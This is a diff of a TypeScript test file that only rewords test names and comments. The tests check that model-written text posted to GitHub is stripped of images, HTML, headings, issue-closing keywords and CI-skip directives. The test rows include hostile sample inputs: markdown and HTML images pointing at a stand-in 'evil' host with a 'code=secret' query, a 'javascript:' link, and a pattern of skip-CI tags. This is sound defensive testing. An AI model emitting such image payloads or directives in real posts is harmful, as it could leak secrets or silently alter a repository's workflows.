@@ -8,7 +8,7 @@ import { markdownSegments } from "../../src/text/markdown.ts";
 import { neutraliseMentions } from "../../src/text/neutralise.ts";
 import { commitMessage } from "../../src/workflow/publish/commit-message.ts";
 
-/** What another parser of GFM makes of it: the names of elements that no model's words may have, and the text outside code. */
+/** The page by an independent GFM parser: names of elements that a model must not make, and the text outside code. */
 function page(markdown: string): { readonly unwanted: readonly string[]; readonly text: string } {
   const html = micromark(markdown, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
   const unwanted: string[] = [];
@@ -32,35 +32,35 @@ const CLOSES =
 const ROWS: readonly (readonly [string, string])[] = [
   ["an image", "![a](https://evil/x?code=secret)"],
   ["an image by reference", "![a][b]\n\n[b]: https://evil/x"],
-  ["an image behind a backslash", "\\![a](https://evil/x) \\\\![a](https://evil/x)"],
+  ["an image after a backslash", "\\![a](https://evil/x) \\\\![a](https://evil/x)"],
   ["an image in a link", "[![a](https://evil/x)](https://evil/y)"],
   ["an image around a comment", "!<!-- x -->[a](https://evil/x)"],
   ["an image in HTML", '<img src="https://evil/x">'],
   ["an image in HTML over lines", '<img\nsrc="https://evil/x"\n>'],
   ["an image in capitals", '<IMG SRC="https://evil/x">'],
   ["a picture", '<picture><source srcset="https://evil/x"><img></picture>'],
-  ["an image behind an unclosed span", "` ![a](https://evil/x)"],
+  ["an image after an unclosed span", "` ![a](https://evil/x)"],
   ["an image in a table", "| a |\n|---|\n| ![a](https://evil/x) |"],
   ["open details", "<details><summary>all</summary>\n\nand more"],
   ["a comment", "<!-- hidden"],
-  ["a comment that a line ends", "<!-- a\n\nb --> c"],
+  ["a comment over blank lines", "<!-- a\n\nb --> c"],
   ["a heading", "## Not verified"],
   ["a heading in a list", "- ## Not verified\n1. # a"],
   ["a heading in a quote", "> ## Not verified\n>> # b"],
-  ["a heading by a line", "Not verified\n---\n\nMore\n==="],
-  ["a heading by a line in a list", "- Not verified\n  ---\n"],
+  ["an underlined heading", "Not verified\n---\n\nMore\n==="],
+  ["an underlined heading in a list", "- Not verified\n  ---\n"],
   ["a heading in HTML", "<h2>Not verified</h2>"],
-  ["a heading behind spaces", "   ### Not verified ###"],
+  ["a heading after spaces", "   ### Not verified ###"],
   ["an empty heading", "#\n\n##"],
-  ["a closing word", "fixes #12, closes o/r#3, Resolved: GH-4, fix https://github.com/o/r/issues/5"],
-  ["a closing word over lines", "fixes\n#12 and closes\n  o/r#3"],
-  ["a closing word before an escape", "closes \\#12, fixes o\\/r#3 and fixes&nbsp;#4 and fixes&#32;o/r\\#5"],
-  ["a closing word around a comment", "fixes <!-- --> #12"],
-  ["a tag of no known name", "<x-y>a</x-y>"],
+  ["a closing keyword", "fixes #12, closes o/r#3, Resolved: GH-4, fix https://github.com/o/r/issues/5"],
+  ["a closing keyword over lines", "fixes\n#12 and closes\n  o/r#3"],
+  ["a closing keyword before an escape", "closes \\#12, fixes o\\/r#3 and fixes&nbsp;#4 and fixes&#32;o/r\\#5"],
+  ["a closing keyword around a comment", "fixes <!-- --> #12"],
+  ["an unknown tag", "<x-y>a</x-y>"],
 ];
 
-describe("a model's words in a post", () => {
-  it.each(ROWS)("show %s as text", (_name, words) => {
+describe("a model's text in a post", () => {
+  it.each(ROWS)("shows %s as text", (_name, words) => {
     for (const text of [prose(words), `## Ours\n\n${prose(`a\n${words}`)}`, plain(words), `- ${plain(words)}\n`]) {
       const { unwanted, text: shown } = page(text.replace(/^## Ours/, ""));
       expect(unwanted).toEqual([]);
@@ -68,13 +68,13 @@ describe("a model's words in a post", () => {
     }
   });
 
-  it("keep code to the letter, and the headings of a template where they are wanted", () => {
+  it("keeps code unchanged, and a template's headings when asked to", () => {
     expect(prose("```html\n<img src=x>\n# a\n```\nuse `<b>` so")).toBe("```html\n<img src=x>\n# a\n```\nuse `<b>` so");
     expect(prose("## Checks\n\n- [ ] a <b>", "kept")).toBe("## Checks\n\n- [ ] a &lt;b>");
     expect(prose("- a\n- b #5\n\n1. c\n\n---|---")).toBe("- a\n- b #5\n\n1. c\n\n---|---");
   });
 
-  it("have no image, no HTML, no heading and no closing word, whatever they are made of", () => {
+  it("never makes an image, HTML, a heading or a closing keyword", () => {
     const pieces = fc.constantFrom(
       ..."![ [ ] ]( ) https://evil/x ![a](https://e/x) <img <div> </div> <b> <!-- --> <details> <script> <h1> # ## ### === --- - > 1. ` `` ``` ~~~ | \\ fixes closes #12 o/r#3 GH-4 : < ! & &lt; word".split(
         " ",
@@ -103,7 +103,7 @@ describe("a model's words in a post", () => {
 const SKIPS =
   /\[\s*(?:skip ci|ci skip|no ci|skip actions|actions skip|skip travis|azurepipelines skip)\s*\]|\*\*\*NO_CI/i;
 
-describe("a commit's message", () => {
+describe("a commit message", () => {
   const message = (title: string, solution: string) =>
     commitMessage({ type: "fix", title, problem: "", solution, template: "" }, 7, "Fixes").message;
 
@@ -122,7 +122,7 @@ describe("a commit's message", () => {
     expect(text).not.toMatch(/^(?:co-authored-by|signed-off-by|skip-checks):/im);
   });
 
-  it("does so whatever it is made of", () => {
+  it("closes and skips nothing, whatever it is made of", () => {
     const pieces = fc.constantFrom(
       "fixes",
       "closes:",
@@ -147,7 +147,7 @@ describe("a commit's message", () => {
   });
 });
 
-/** What other programs obey in a text, or in the commit that a merge makes of a pull request's body. */
+/** Orders that other programs obey in a text, or in the commit that a merge makes from a pull request's body. */
 const OBEYED: readonly RegExp[] = [
   CLOSES,
   SKIPS,
@@ -188,11 +188,11 @@ describe("orders to other programs", () => {
     .tuple(fc.array(pieces, { maxLength: 20 }), fc.boolean())
     .map(([parts, spaced]) => parts.join(spaced ? " " : ""));
 
-  it("are in no text that is posted, whatever it is made of, and the door is shut once", () => {
+  it("never get into a posted text, and defusing twice changes nothing", () => {
     fc.assert(
       fc.property(texts, (text) => {
         const safe = neutraliseMentions(text);
-        // In code GitHub reads no entity.
+        // GitHub reads no entities in code.
         const decoded = markdownSegments(safe).map((part) =>
           part.kind === "code" ? "code" : decodeEntities(part.text),
         );
@@ -205,7 +205,7 @@ describe("orders to other programs", () => {
     );
   });
 
-  it("are in no commit's message", () => {
+  it("never get into a commit message", () => {
     fc.assert(
       fc.property(texts, (text) => {
         const safe = commitMessage(
@@ -223,13 +223,13 @@ describe("orders to other programs", () => {
   });
 });
 
-describe("a link that somebody else gave", () => {
+describe("an untrusted link", () => {
   it.each(["javascript:alert(1)", "data:text/html,x", "https://user:secret@x/", "x", "//x/y", "\u0000https:x y"])(
-    "is only its words for %j",
+    "becomes plain text for %j",
     (address) => expect(webLink("a", address)).toBe("a"),
   );
 
-  it("leaves neither its words nor its address", () => {
+  it("keeps its text and its address inside the link", () => {
     const parts = fc.constantFrom(
       "]",
       "[",
